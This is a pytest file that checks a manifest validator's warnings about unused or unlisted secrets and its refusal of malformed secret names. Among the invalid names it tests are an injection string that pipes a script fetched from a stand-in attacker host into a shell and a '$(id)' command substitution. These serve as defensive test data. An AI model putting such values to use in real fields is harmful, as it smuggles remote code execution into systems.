"""What a manifest says of secrets is held against the rest of it."""

from __future__ import annotations

import pytest
from tests.manifest.documents import native, shu

SECRET_WARNINGS = ("unknown_operation", "unlisted_secret", "secrets_not_asked")


def test_secrets_that_nobody_could_use_are_warned_of() -> None:
    operations = {"nosuchtool": {"secrets": {"other": "user"}}, "send": {"secrets": {"key": "user"}}}
    said = native(secrets=["key"], operation_auth=operations, tools=[{"name": "send"}], capabilities=["net:[]"])
    assert {one.path: one.code for one in said.warnings if one.code in SECRET_WARNINGS} == {
        "operation_auth.nosuchtool": "unknown_operation",
        "operation_auth.nosuchtool.secrets.other": "unlisted_secret",
        "secrets": "secrets_not_asked",
    }
    sends = {"send": operations["send"]}
    right = native(secrets=["key"], operation_auth=sends, tools=[{"name": "send"}], capabilities=["host:secrets"])
    assert [one for one in right.warnings if one.code in SECRET_WARNINGS] == []
    listed = native(secrets=["key"], capabilities=["host:secrets", "secret:key"])
    assert [one.path for one in listed.errors] == ["capabilities[1]"]
    theirs = shu(op_auth={"send": {"secrets": {"key": {}}}}, capabilities=[])
    assert [(one.path, one.code) for one in theirs.warnings if one.code in SECRET_WARNINGS] == [
        ("op_auth", "secrets_not_asked")
    ]


@pytest.mark.parametrize(
    "name", ["a; curl evil.sh|sh #", "$(id)", "--tenant=acme", "two words", "", "x" * 129, "plugin/weather/API_KEY"]
)
def test_a_name_that_no_secret_has_and_one_of_a_plugins_configuration_are_refused_wherever_they_stand(
    name: str,
) -> None:
    ours = native(secrets=["key", name], operation_auth={"send": {"secrets": {name: "user"}}})
    theirs = shu(secrets=["key", name], op_auth={"send": {"secrets": {name: {}}}})

    for operations, said in (("operation_auth", ours), ("op_auth", theirs)):
        paths = [one.path for one in said.errors if one.code == "secret_name"]
        assert len(paths) == 2 and paths[0] == "secrets[1]" and paths[1].startswith(f"{operations}.send.secrets")
